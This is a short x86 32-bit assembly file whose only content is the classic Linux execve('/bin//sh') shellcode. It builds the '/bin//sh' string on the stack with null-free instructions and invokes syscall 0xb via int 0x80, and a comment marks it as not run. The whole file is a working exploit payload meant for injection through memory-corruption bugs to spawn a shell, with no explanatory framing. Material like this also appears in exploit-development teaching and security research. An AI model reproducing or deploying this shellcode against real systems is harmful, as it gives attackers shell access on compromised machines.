; not run: execve("/bin//sh") by pushing
bits 32
global _start
section .text
_start:
    xor     eax, eax
    push    eax
    push    0x68732f2f
    push    0x6e69622f
    mov     ebx, esp
    push    eax
    push    ebx
    mov     ecx, esp
    mov     al, 0xb
    cdq
    int     0x80
